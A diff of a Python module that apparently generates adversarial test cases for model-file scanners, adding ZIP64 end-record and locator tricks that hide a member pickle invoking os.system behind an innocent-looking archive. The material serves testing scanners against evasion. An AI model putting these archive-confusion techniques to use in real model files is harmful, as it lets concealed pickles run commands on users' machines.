@@ -73,6 +73,40 @@ def zip_fields(payload: Payload) -> Iterator[Case]:
         yield Case("zip-fields", name, "voice.pth", content)
 
 
+def two_ends(payload: Payload) -> Iterator[Case]:
+    """64-bit ends that a reader who trusts the locator sees differently from one who looks right before it."""
+    shown, hidden = archive(honest()), archive([Member(root() + "data.pkl", _attack(payload))])
+    end, hidden_end = shown.rindex(b"PK\x05\x06"), hidden.rindex(b"PK\x05\x06")
+    count, size, offset = struct.unpack("<H2I", shown[end + 10 : end + 20])
+    hidden_count, hidden_size, hidden_offset = struct.unpack("<H2I", hidden[hidden_end + 10 : hidden_end + 20])
+    front = shown[:end] + _large_end(count, size, offset)
+    second = bytearray(hidden[:hidden_end])
+    struct.pack_into("<I", second, hidden_offset + 42, len(front))
+    second += _large_end(hidden_count, hidden_size, len(front) + hidden_offset)
+    ends = {
+        "second-archive-behind-end": front + second,
+        "bytes-behind-end": front + bytes(8),
+        "long-end": shown[:end] + _large_end(count, size, offset, length=52) + bytes(8),
+        "short-length": shown[:end] + _large_end(count, size, offset, length=36),
+        "another-disk": shown[:end] + _large_end(count, size, offset, disk=1),
+        "fewer-here": shown[:end] + _large_end(count, size, offset, here=1),
+    }
+    small = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
+    for name, body in ends.items():
+        locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1)
+        yield Case("two-ends", name, "voice.pth", body + locator + small)
+    for name, disks in {"locator-on-another-disk": (1, 1), "locator-of-two-disks": (0, 2)}.items():
+        locator = struct.pack("<4sIQI", b"PK\x06\x07", disks[0], end, disks[1])
+        yield Case("two-ends", name, "voice.pth", front + locator + small)
+
+
+def _large_end(
+    count: int, size: int, offset: int, length: int = 44, disk: int = 0, here: int | None = None
+) -> bytes:
+    here = count if here is None else here
+    return struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", length, 45, 45, disk, disk, here, count, size, offset)
+
+
 def zip_names(payload: Payload) -> Iterator[Case]:
     """Members that do not belong, or come twice."""
     pickle_name, attack = root() + "data.pkl", before(data_pickle(), call("os", "system", payload.command))
@@ -276,5 +310,5 @@ def _tar_link() -> bytes:
 
 def everything(payload: Payload) -> Iterable[Case]:
     """All families of this module."""
-    for family in (zip_fields, zip_names, hidden_places, storages, wrappings, siblings, junk, legacy):
+    for family in (zip_fields, two_ends, zip_names, hidden_places, storages, wrappings, siblings, junk, legacy):
         yield from family(payload)
